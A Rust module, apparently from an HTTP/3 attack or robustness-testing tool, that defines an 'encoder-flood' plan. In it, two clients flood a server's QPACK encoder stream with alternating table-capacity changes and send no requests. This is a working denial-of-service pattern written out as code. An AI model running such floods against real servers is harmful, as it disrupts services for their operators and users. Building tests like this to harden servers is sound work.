//! QPACK encoder instructions without effect.

use crate::attack::{Plan, Victim};

use super::Crowd;

/// The entry of the attack in the list.
pub(super) const PLAN: Plan = Plan {
    name: "encoder-flood",
    labels: &["A77"],
    summary: "capacity changes on the QPACK encoder stream without any request",
    victim: Victim::Server,
    make: || Box::new(encoder_flood()),
};

fn encoder_flood() -> Crowd {
    Crowd::of_clients(2, |connection, progress, _| {
        // Capacities 0 and 1 alternate. Each empties the dynamic table.
        let bytes = [0x20, 0x21].repeat(500);
        for _ in 0..BURST {
            progress.push_encoder(connection, &bytes);
        }
    })
}

/// Packets of one connection in one turn.
const BURST: usize = 8;
